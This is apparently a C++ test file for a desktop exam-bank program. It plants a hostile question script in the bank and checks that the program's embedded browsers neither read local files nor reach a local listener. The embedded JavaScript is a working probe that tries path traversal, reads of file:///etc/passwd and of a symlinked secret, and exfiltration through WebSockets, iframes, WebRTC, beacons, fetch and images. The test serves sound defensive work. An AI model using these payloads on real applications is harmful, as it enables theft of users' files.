// A bank from someone else: a question text whose script tries to read the
// user's files and to reach a listener on this machine, shown in the main
// browser and in a side browser. A web page of the listener's own, in the same
// kind of browser, shows the listener is reachable and the probes work.
#include "MainWindowFixture.h"
#include "browser/WebBrowser.h"
#include "store/SqlText.h"

#include <QDir>
#include <algorithm>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonDocument>
#include <QNetworkDatagram>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>

namespace {
// Answers every request with a small page and keeps its first line. The
// control page is served at /C-page.
class Listener {
public:
    Listener() {
        tcp.listen(QHostAddress::LocalHost);
        udp.bind(QHostAddress::LocalHost);
        QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = tcp.nextPendingConnection()) {
                ++connections;
                QObject::connect(s, &QTcpSocket::readyRead, s, [this, s] {
                    const QByteArray head = s->readAll();
                    const QByteArray line = head.left(head.indexOf("\r\n"));
                    requests << QString::fromUtf8(line);
                    const QByteArray body = line.contains("/C-page") ? controlPage() : QByteArray("ok");
                    s->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: " +
                             QByteArray::number(body.size()) + "\r\n\r\n" + body);
                    s->disconnectFromHost();
                });
            }
        });
        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
            while (udp.hasPendingDatagrams()) {
                udp.receiveDatagram();
                ++datagrams;
            }
        });
    }
    QString Base() const { return QStringLiteral("127.0.0.1:%1").arg(tcp.serverPort()); }
    int UdpPort() const { return udp.localPort(); }
    bool Arrived(const QString& marker) const {
        return std::any_of(requests.begin(), requests.end(), [&](const QString& r) { return r.contains(marker); });
    }
    QByteArray controlPage() const {
        return QStringLiteral("<html><body><script>"
                              "new WebSocket('ws://%1/C-ws');"
                              "fetch('http://%1/C-fetch');"
                              "var pc = new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:%2'}]});"
                              "pc.createDataChannel('x'); pc.createOffer().then(function(o){return pc.setLocalDescription(o);});"
                              "window.rtc = typeof RTCPeerConnection;"
                              "</script></body></html>")
            .arg(Base())
            .arg(UdpPort())
            .toUtf8();
    }

    QTcpServer tcp;
    QUdpSocket udp;
    QStringList requests;
    int connections = 0;
    int datagrams = 0;
};

// The exploit, with every way we know of to read a file outside css/ and
// images/ and to open a connection from a local page. Results go to __probe.
std::string probeScript(const Listener& l, const QString& secretFile, const QString& secretDir) {
    const QString js = QStringLiteral(R"JS(<iframe id="parsed"></iframe><script>
(function () {
  var P = window.__probe = {reads: {}, net: {}};
  var base = "@BASE@/L-", udp = @UDP@, stolen = "";
  function rd(u) {
    try { var x = new XMLHttpRequest(); x.open("GET", u, false); x.send(); return "OK:" + x.responseText.slice(0, 300); }
    catch (e) { return "ERR:" + e.name; }
  }
  var targets = {css: "main.css", up: "../exam.db", enc: "%2e%2e/exam.db", upper: "../EXAM.DB", link: "link.txt",
                 abs: "file://@FILE@", host: "file://localhost@FILE@", dir: "file://@DIR@/", cssdir: "./",
                 passwd: "file:///etc/passwd", viaimages: "../images/../exam.db", dbl: "file:////@FILE@"};
  for (var k in targets) { P.reads[k] = rd(targets[k]); stolen += P.reads[k]; }
  ["../exam.db", "file://@FILE@"].forEach(function (u, i) {
    fetch(u).then(function (r) { return r.text(); }).then(function (t) { P.reads["fetch" + i] = "OK:" + t; stolen += t; },
                                                          function (e) { P.reads["fetch" + i] = "ERR:" + e.name; });
  });
  function net(name, f) { try { P.net[name] = String(f()); } catch (e) { P.net[name] = "ERR:" + e.name; } }
  function ws(W, tag) { if (!W) return "none"; new W("ws://" + base + tag + "?v=" + encodeURIComponent(stolen)); return "made"; }
  function rtc(R) {
    if (!R) return "none";
    var pc = new R({iceServers: [{urls: "stun:127.0.0.1:" + udp}]});
    pc.createDataChannel("x"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    return "made";
  }
  net("ws", function () { return ws(window.WebSocket, "ws"); });
  net("parsedFrame", function () { return ws(frames[0].WebSocket, "parsed"); });
  net("frameIndex", function () {
    document.body.appendChild(document.createElement("iframe")); return ws(frames[frames.length - 1].WebSocket, "index");
  });
  net("frameWindow", function () {
    var f = document.createElement("iframe"); document.body.appendChild(f); return ws(f.contentWindow.WebSocket, "cw");
  });
  net("frameHtml", function () {
    var d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.appendChild(d);
    return ws(frames[frames.length - 1].WebSocket, "html");
  });
  net("srcdoc", function () {
    var f = document.createElement("iframe");
    f.srcdoc = "<script>new WebSocket('ws://" + base + "srcdoc')<\/script>"; document.body.appendChild(f); return "made";
  });
  net("rtc", function () { return rtc(window.RTCPeerConnection || window.webkitRTCPeerConnection); });
  net("rtcFrame", function () { return rtc(frames[0].RTCPeerConnection); });
  net("worker", function () {
    return new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://" + base + "worker')"]))) && "made";
  });
  net("eventSource", function () { return new EventSource("http://" + base + "es") && "made"; });
  net("beacon", function () { return navigator.sendBeacon("http://" + base + "beacon", stolen); });
  net("open", function () { return String(window.open("http://" + base + "open")); });
  net("xhr", function () { var x = new XMLHttpRequest(); x.open("GET", "http://" + base + "xhr", false); x.send(); return x.status; });
  fetch("http://" + base + "fetch?v=" + encodeURIComponent(stolen)).catch(function () {});
  var img = new Image(); img.src = "http://" + base + "img?v=" + encodeURIComponent(stolen);
})();
</script>)JS");
    return QString(js)
        .replace(QStringLiteral("@BASE@"), l.Base())
        .replace(QStringLiteral("@UDP@"), QString::number(l.UdpPort()))
        .replace(QStringLiteral("@FILE@"), secretFile)
        .replace(QStringLiteral("@DIR@"), secretDir)
        .toStdString();
}

// Made before the installation, whose bank holds their addresses.
struct HostileWorld {
    QTemporaryDir secrets;
    Listener listener;
};

class HostilePageTest : protected HostileWorld, public MainWindowFixture {
protected:
    HostilePageTest() : MainWindowFixture(bankSql()) {
        WriteFileBytes(secretFile().toStdString(), "TOPSECRET-0451");
        QFile::link(secretFile(), QString::fromStdString(inst.Path("css/link.txt")));
        WriteFileBytes(inst.Path("css/Main.css"), "body{color:black}");
    }
    std::string bankSql() {
        return DefaultSettingsSql() + FixtureText("render/fixtures/page_bank.sql") +
               "INSERT INTO 题目类别 VALUES(1,'源',0,'0');INSERT INTO 题目类别 VALUES(11,'科目',1,NULL);"
               "INSERT INTO 题目类别 VALUES(101,'节',11,NULL);"
               "UPDATE 小题 SET 题目内容=" +
               QuotedStr(probeScript(listener, secretFile(), secrets.path())) + " WHERE 小题号=11;";
    }
    QString secretFile() const { return secrets.filePath(QStringLiteral("secret.txt")); }
    void pump(int ms) {
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < ms) QApplication::processEvents(QEventLoop::AllEvents, 20);
    }
    bool pumpUntil(const std::function<bool()>& done, int ms = 10000) {
        QElapsedTimer t;
        t.start();
        while (!done() && t.elapsed() < ms) QApplication::processEvents(QEventLoop::AllEvents, 20);
        return done();
    }
    QVariantMap probeOf(WebBrowser* b) { return b->Evaluate(QStringLiteral("window.__probe")).toMap(); }
};
}  // namespace

TEST_F(HostilePageTest, ABankScriptReadsNoFileOutsideItsFoldersAndReachesNoListener) {
    TFrmMain& f = Start();  // the first category page holds the exploit
    ASSERT_TRUE(f.WebBrowser1->WaitForLoad());
    f.WebBrowser2->Navigate(inst.Path("css/Question.html"));
    ASSERT_TRUE(f.WebBrowser2->WaitForLoad());

    // The control: a web page of the listener's in a browser of ours gets through.
    WebBrowser control;
    control.Navigate(QStringLiteral("http://%1/C-page").arg(listener.Base()));
    ASSERT_TRUE(control.WaitForLoad(20000));
    ASSERT_TRUE(pumpUntil([&] { return listener.Arrived("/C-ws") && listener.Arrived("/C-fetch"); }))
        << listener.requests.join(u'\n').toStdString();
    EXPECT_EQ(control.Evaluate(QStringLiteral("window.rtc")).toString(), "function");
    pump(1500);  // the exploit's own asynchronous attempts

    for (WebBrowser* b : {f.WebBrowser1, f.WebBrowser2}) {
        const QVariantMap probe = probeOf(b);
        const QVariantMap reads = probe.value("reads").toMap();
        ASSERT_FALSE(reads.isEmpty()) << "the exploit did not run";
        EXPECT_TRUE(reads.value("css").toString().startsWith("OK:body{color:black}")) << "the page's own style sheet";
        for (auto it = reads.begin(); it != reads.end(); ++it) {
            if (it.key() == "css") continue;
            EXPECT_FALSE(it.value().toString().startsWith("OK:") && it.value().toString().size() > 3)
                << it.key().toStdString() << " read " << it.value().toString().left(80).toStdString();
        }
        const QByteArray all = QJsonDocument::fromVariant(probe).toJson();
        EXPECT_FALSE(all.contains("TOPSECRET")) << all.toStdString();
        const QVariantMap net = probe.value("net").toMap();
        for (const char* name : {"ws", "frameIndex", "frameWindow", "frameHtml", "rtc", "rtcFrame"})
            EXPECT_NE(net.value(name).toString(), "made") << name;
    }
    // What gets out: a frame written into the bank text, reached through
    // window[0] before anything touched its element. It carries no file.
    QStringList out = listener.requests.filter(QStringLiteral("/L-"));
    for (const QString& r : out) {
        EXPECT_TRUE(r.startsWith("GET /L-parsed?")) << r.toStdString();
        EXPECT_FALSE(r.contains("TOPSECRET") || r.contains("SQLite")) << r.toStdString();
    }
    EXPECT_EQ(listener.datagrams, 0) << "WebRTC sent UDP of its own";
}
